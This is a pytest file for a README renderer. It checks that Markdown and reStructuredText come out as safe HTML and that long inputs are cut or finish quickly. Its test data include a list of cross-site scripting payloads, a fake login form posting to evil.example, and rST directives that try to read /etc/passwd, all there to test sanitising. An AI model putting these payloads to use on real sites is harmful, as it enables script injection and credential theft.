"""READMEs as HTML: whatever stands in one, a page gets structure and text, soon."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from entrepot.readmes.renderer import MOST, MOST_PLAIN, Renderer
from entrepot.readmes.rendering import render

LINK = 'rel="nofollow noopener noreferrer"'


@pytest.fixture(scope="module")
def renderer() -> Iterator[Renderer]:
    made = Renderer(seconds=1.0)
    yield made
    made.close()


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# One\n\n## Two", '<h3 id="readme-one">One</h3>\n<h4 id="readme-two">Two</h4>\n'),
        ("## Two\n\n###### Six", '<h3 id="readme-two">Two</h3>\n<h6 id="readme-six">Six</h6>\n'),
        ("[out](https://a.example/b?c=1&d=2)", f'<p><a href="https://a.example/b?c=1&amp;d=2" {LINK}>out</a></p>\n'),
        ("[mail](mailto:a@b.example)", f'<p><a href="mailto:a@b.example" {LINK}>mail</a></p>\n'),
        ("[file](docs/x.md) [up](/etc) [other](//evil.example/x)", "<p>file up other</p>\n"),
        ("[script](javascript:alert(1)) [data](data:text/html,x)", "<p>script data</p>\n"),
        ("[login](https://user:secret@evil.example/)", "<p>login</p>\n"),
        ("![logo](https://a.example/l.png)", f'<p><a href="https://a.example/l.png" {LINK}>logo</a></p>\n'),
        ("![logo](man/logo.png) ![](x.png)", "<p>logo </p>\n"),
        (
            "[![badge](https://a.example/b.svg)](https://c.example)",
            f'<p><a href="https://c.example" {LINK}>badge</a></p>\n',
        ),
        ("[![](https://a.example/b.svg)](https://c.example)", "<p></p>\n"),
        ("# Top\n\n[up](#top) [gone](#nowhere)", None),
        ("- [x] done\n- [ ] open", "<ul>\n<li>☑  done</li>\n<li>☐  open</li>\n</ul>\n"),
        ("```r\nx <- 1\n```", None),
        ("a\u202egnp.exe &#x202e;b\x07", "<p>agnp.exe b</p>\n"),
        ("", '<pre tabindex="0"></pre>'),
    ],
)
def test_markdown(text: str, html: str | None) -> None:
    """Headings below those of a page, links that lead out alone, pictures as their words, boxes as signs."""
    format_, found = render(text, "markdown")
    if html is not None:
        assert found == html
    elif text.startswith("#"):
        assert f'<a href="#readme-top" {LINK}>up</a> gone' in found
        assert 'id="readme-top"' in found
    else:
        assert (format_, found.startswith('<pre tabindex="0"><span class="n">x</span>')) == ("markdown", True)


def test_restructured_text() -> None:
    """Sections and links as in Markdown; what it could include or run is not."""
    text = "Title\n=====\n\nSee `there <https://a.example>`_.\n\nSub\n---\n\n.. code:: python\n\n   x = 1\n"
    format_, html = render(text, "rst")
    assert format_ == "rst"
    assert re.findall(r"<h(\d)[^>]*>(?:<span[^>]*></span>)?(\w+)", html) == [("3", "Title"), ("4", "Sub")]
    assert f'<a href="https://a.example" {LINK}>there</a>' in html
    for hostile in (
        ".. include:: /etc/passwd\n",
        ".. raw:: html\n\n   <script>1</script>\n",
        ".. raw:: html\n   :file: /etc/passwd\n",
    ):
        format_, html = render(hostile, "rst")
        assert "root:" not in html
        assert "<script" not in html


def test_what_is_not_restructured_text_stands_as_it_is() -> None:
    """As on the public index."""
    assert render("`a <b\n", "rst") == ("plain", '<pre tabindex="0">`a &lt;b\n</pre>')


HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<svg><script>alert(1)</script></svg><svg/onload=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a> <a href=' javascript:alert(1)'>y</a>",
    '<a href="vbscript:x">x</a> <a href="https://x.example" onclick=alert(1) target=_top>y</a>',
    "<div style='position:fixed;inset:0' class='card message bad' id=main onmouseover=alert(1)>over all</div>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css><base href=//evil.example>",
    "<form action=//evil.example><input type=password name=p><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><title>x</title>",
    "<video src=x onerror=alert(1)></video><audio autoplay src=x><source src=x></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<input autofocus onfocus=alert(1)><select><option>x</select><textarea>y</textarea>",
    "[x](javascript&colon;alert(1)) <javascript:alert(1)>",
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onmouseover=alert(1) y="\nx\n```',
    "<pre lang='\"><script>alert(1)</script>'><code>x</code></pre>",
    "<plaintext>all that follows",
    "<xmp><img src=x onerror=alert(1)></xmp><listing>x</listing>",
    "<!--[if IE]><script>alert(1)</script><![endif]--> <?php x ?> <!DOCTYPE x [<!ENTITY y 'z'>]> &y;",
]
TAGS = {
    *("a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "details", "div", "dl", "dt", "em"),
    *("h3", "h4", "h5", "h6", "hr", "i", "kbd", "li", "ol", "p", "pre", "span", "strong", "sub", "summary", "sup"),
    *("table", "tbody", "td", "th", "thead", "tr", "ul", "var"),
}
ATTRIBUTES = {"href", "rel", "title", "start", "tabindex", "class", "colspan", "rowspan", "id"}


class Harmless(HTMLParser):
    """Raises AssertionError at what may not be in a README's HTML."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            assert name in ATTRIBUTES, name
            if name == "href":
                assert re.match(r"(?:https?://|mailto:|#readme-)", value or ""), value
            if name == "id":
                assert (value or "").startswith("readme-")
            if name == "class":
                assert (tag == "div" and value == "wide") or (tag == "span" and len(value or "") <= 3), value

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("format_", ["markdown", "rst", "plain"])
def test_nothing_but_structure_and_text(text: str, format_: str) -> None:
    """No script, style, form, picture or frame, whatever the text is taken for."""
    html = render(f"Before\n\n{text}\n\nafter\n", format_)[1]  # type: ignore[arg-type]
    Harmless().feed(html)
    assert "Before" in html


@settings(max_examples=150)
@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<", ">", '"', "'", "`", "*", "[", "](", ")", "&lt;", "\n", "\n\n", "# ", "x"]),
        max_size=8,
    )
)
def test_nothing_but_structure_and_text_in_any_mixture(pieces: list[str]) -> None:
    """Pieces of attacks beside each other make no other one."""
    Harmless().feed(render("".join(pieces), "markdown")[1])


@pytest.mark.parametrize(
    ("name", "unit"),
    [
        *(
            ("markdown", unit)
            for unit in ("> ", "# a\n", "<div>", "[a](", "![", "|a|b|\n|-|-|\n|x|y|\n", '<pre lang="', "*a **b ")
        ),
        *(
            ("rst", unit)
            for unit in ("* a\n\n  ", "A\n=\n\n", "=== ===\na b\n=== ===\n\n", ".. note:: a\n\n", "*a ", "`a <b>`_ ")
        ),
    ],
)
def test_no_text_takes_long(renderer: Renderer, name: str, unit: str) -> None:
    """Half a megabyte of what costs some parser minutes is there soon, as text if not otherwise."""
    renderer.render("warm", "markdown")
    began = time.monotonic()
    found = renderer.render(unit * (MOST // len(unit)), name)  # type: ignore[arg-type]
    assert time.monotonic() - began < 4
    Harmless().feed(found.html)
    assert renderer.render("*still* there", "markdown").html == "<p><em>still</em> there</p>\n"


def test_ten_megabytes_are_cut(renderer: Renderer) -> None:
    """What is shown is bounded, and it says so."""
    found = renderer.render("word " * 2_000_000, "markdown")
    assert (found.format, found.is_cut, len(found.html) < 2 * MOST) == ("markdown", True, True)
    found = renderer.render("word " * 2_000_000, "plain")
    assert (found.format, found.is_cut, len(found.html) <= MOST_PLAIN + 40) == ("plain", True, True)


def test_the_process_is_started_again(renderer: Renderer) -> None:
    """Somebody ends it: nobody notices."""
    renderer.render("a", "markdown")
    assert renderer._process is not None
    renderer._process.kill()
    renderer._process.wait()
    assert renderer.render("*b*", "markdown").html == "<p><em>b</em></p>\n"
